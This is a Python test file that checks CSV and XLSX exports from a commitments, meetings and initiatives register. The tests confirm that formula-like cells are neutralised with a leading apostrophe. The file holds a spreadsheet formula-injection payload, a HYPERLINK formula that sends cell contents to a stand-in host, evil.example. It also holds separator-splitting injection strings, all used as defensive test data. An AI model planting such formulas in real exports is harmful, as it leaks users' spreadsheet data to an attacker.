"""Lists exported as CSV and XLSX: exactly the filtered rows, numbers as numbers, dates as dates,
and no cell that a spreadsheet would run as a formula."""
import csv
import io
from datetime import date, datetime, timedelta
from decimal import Decimal

import openpyxl
import pytest

from coalition import commitments
from coalition.commitments import CommitmentDetails
from coalition.db import db
from coalition.exports import Sheet, csv_cell, csv_text, xlsx_bytes
from coalition.models import CommitmentKind, CommitmentStatus, Initiative, Sector, Unit

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Klicka")'
MADE_ON = date.today() - timedelta(days=30)


@pytest.mark.parametrize("text", ["=1+1", "+46 70 123", "-2+3", "@SUM(A1)", "\tlist", "\rnew"])
def test_text_that_a_spreadsheet_would_run_is_neutralised(text):
    assert csv_cell(text) == "'" + text


def test_numbers_and_dates_are_written_plainly():
    assert [csv_cell(v) for v in (Decimal("1250000.50"), -3, date(2026, 3, 4), datetime(2026, 3, 4, 18, 5), None,
                                  "Vanlig text")] == ["1250000.50", "-3", "2026-03-04", "2026-03-04 18:05", "",
                                                      "Vanlig text"]


def test_a_csv_starts_with_a_byte_order_mark_for_excel():
    text = csv_text(["Namn"], [["Åsa"]])
    assert text.startswith('\ufeff"Namn"\r\n')
    assert list(csv.reader(io.StringIO(text.lstrip("\ufeff")))) == [["Namn"], ["Åsa"]]


def test_an_xlsx_keeps_numbers_numeric_dates_as_dates_and_formulas_as_text():
    workbook = openpyxl.load_workbook(io.BytesIO(xlsx_bytes([Sheet("Lista", ["Text", "Belopp", "Datum", "Fel"], [
        [HOSTILE, Decimal("1250000.50"), date(2026, 3, 4), "#N/A"],
        ["Styrtecken\x01 borta", 12, None, "-"],
    ])])))
    sheet = workbook["Lista"]
    text, amount, day, error_code = sheet[2]
    assert (text.value, text.data_type) == ("'" + HOSTILE, "s")
    assert (amount.value, amount.data_type) == (1250000.5, "n")
    assert day.is_date and day.value.date() == date(2026, 3, 4)
    assert (error_code.value, error_code.data_type) == ("#N/A", "s")
    assert sheet["A3"].value == "Styrtecken borta"
    assert sheet["D3"].value == "'-"


# --- the commitments register's exports -----------------------------------------------------

@pytest.fixture
def register(app, make_organisation):
    """A small register: a hostile description, a joint commitment, and one that the filter leaves out."""
    bank = make_organisation("Sparbanken", sector=Sector.PRIVATE)
    stad = make_organisation("=Staden", sector=Sector.PUBLIC)
    initiative = Initiative(name="Sommarjobb")
    db.session.add(initiative)
    db.session.flush()

    def record(description, parties, amount, unit, **fields):
        commitments.create_commitment(db.session, CommitmentDetails(
            kind=CommitmentKind.FUNDING, description=description, party_ids=[p.id for p in parties], amount=amount,
            unit=unit, made_on=MADE_ON, **fields), status=CommitmentStatus.AGREED)

    record(HOSTILE, [bank], Decimal("1250000.50"), Unit.SEK, due_on=date(2027, 6, 30), initiative_id=initiative.id)
    record("Handledare i sommar", [bank, stad], Decimal("120"), Unit.HOURS, initiative_id=initiative.id)
    record("Utanför filtret", [stad], Decimal("99"), Unit.SEK)
    db.session.commit()
    return initiative


def test_the_xlsx_export_has_the_filtered_rows_with_numbers_and_a_neutralised_formula(client_as, register):
    response = client_as("viewer").get(f"/commitments/export.xlsx?initiative={register.id}&sort=due_on")
    assert response.mimetype == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    workbook = openpyxl.load_workbook(io.BytesIO(response.data))
    rows = list(workbook["Commitments"].iter_rows(values_only=True))
    header, first, second = rows[0], rows[1], rows[2]
    assert len(rows) == 3
    column = {title: index for index, title in enumerate(header)}
    assert first[column["Commitment"]] == "'" + HOSTILE
    assert workbook["Commitments"].cell(row=2, column=column["Commitment"] + 1).data_type == "s"
    assert first[column["Amount"]] == 1250000.5 and first[column["Unit"]] == "SEK"
    assert first[column["Due"]] == datetime(2027, 6, 30)
    assert second[column["Amount"]] == 120 and second[column["Unit"]] == "hours"
    assert second[column["Parties"]] == "'=Staden; Sparbanken"
    totals = {(row[0], row[1]): row[2:] for row in workbook["Totals"].iter_rows(min_row=2, values_only=True)}
    assert totals[("All", "Total")] == (2, 1250000.5, 120)
    assert totals[("Sector", "Several sectors")] == (1, 0, 120)


def test_the_csv_export_has_exactly_the_filtered_rows_and_no_formulas(client_as, register):
    response = client_as("viewer").get(f"/commitments/export.csv?initiative={register.id}")
    text = response.get_data(as_text=True)
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    assert response.mimetype == "text/csv" and text.startswith("\ufeff")
    descriptions = sorted(row[2] for row in rows[1:])
    assert descriptions == ["'" + HOSTILE, "Handledare i sommar"]
    assert "1250000.50" in {row[5] for row in rows[1:]}


def test_the_register_links_to_exports_of_the_same_filter(client_as, register):
    page = client_as("viewer").get(f"/commitments/?initiative={register.id}&status=agreed").get_data(as_text=True)
    assert f"/commitments/export.xlsx?initiative={register.id}&amp;status=agreed" in page
    assert f"/commitments/export.csv?initiative={register.id}&amp;status=agreed" in page


def test_the_initiatives_list_exports_too(client_as, register):
    workbook = openpyxl.load_workbook(io.BytesIO(client_as("viewer").get("/initiatives/export.xlsx").data))
    rows = list(workbook["Initiatives"].iter_rows(values_only=True))
    assert rows[1][0] == "Sommarjobb" and rows[1][rows[0].index("Commitments")] == 2


def test_the_meetings_export_uses_the_same_neutralisation(client_as, make_meeting):
    make_meeting("@SUM(1+1)", datetime(2026, 3, 4, 18, 0))
    text = client_as("viewer").get("/meetings/export.csv").get_data(as_text=True)
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    assert rows[1][0] == "2026-03-04 18:00" and rows[1][2] == "'@SUM(1+1)"


# --- formulas after a separator (Swedish Excel splits on ";") -------------------------------

SPLIT_ATTACK = "Desc;=1+1"
FORMULA_STARTS = ("=", "+", "-", "@")


def _cells_as_a_swedish_excel_reads_them(text: str) -> list[str]:
    """Every cell a spreadsheet splitting on ";" could see: by the CSV rules, and by a plain split of each line."""
    text = text.lstrip("\ufeff")
    by_rules = [cell for row in csv.reader(io.StringIO(text), delimiter=";") for cell in row]
    by_lines = [piece for line in text.splitlines() for piece in line.split(";")]
    return [cell.strip().strip('"').strip() for cell in by_rules + by_lines]


def _runnable(text: str) -> list[str]:
    return [cell for cell in _cells_as_a_swedish_excel_reads_them(text) if cell.startswith(FORMULA_STARTS)]


@pytest.mark.parametrize("text", [SPLIT_ATTACK, "Desc; =1+1", "a,=1+1", "a\t@SUM(A1)", "a;-2+3;+4", "a\n=1+1"])
def test_a_formula_after_a_separator_stays_text_when_a_swedish_excel_splits_the_cell(text):
    written = csv_text(["Beskrivning", "Belopp"], [[text, 5]])
    assert _runnable(written) == []
    assert list(csv.reader(io.StringIO(written.lstrip("\ufeff"))))[1][0].replace("'", "") == text


def test_every_cell_of_a_csv_is_quoted():
    written = csv_text(["Namn", "Antal"], [["Åsa", 3], [None, date(2026, 3, 4)]])
    assert written.lstrip("\ufeff").splitlines() == ['"Namn","Antal"', '"Åsa","3"', '"","2026-03-04"']


def test_every_csv_export_keeps_a_formula_after_a_semicolon_as_text(client_as, make_organisation, make_person,
                                                                     make_meeting):
    org = make_organisation(SPLIT_ATTACK, sector=Sector.PRIVATE)
    other = make_organisation("Backens IF")
    commitments.create_commitment(db.session, CommitmentDetails(
        kind=CommitmentKind.FUNDING, description=SPLIT_ATTACK, party_ids=[org.id, other.id], made_on=MADE_ON))
    people = {party: make_person(organisation=party) for party in (org, other)}
    make_meeting(SPLIT_ATTACK, datetime(2026, 3, 4, 18, 0), place=SPLIT_ATTACK,
                 attendees=[(person, party) for party, person in people.items()])
    db.session.add(Initiative(name=SPLIT_ATTACK, description=SPLIT_ATTACK))
    db.session.commit()
    staff = client_as("staff")
    for address in ("/commitments/export.csv", "/meetings/export.csv", "/initiatives/export.csv",
                    "/network/export.nodes.csv", "/network/export.ties.csv"):
        text = staff.get(address).get_data(as_text=True)
        assert "=1+1" in text, address
        assert _runnable(text) == [], address
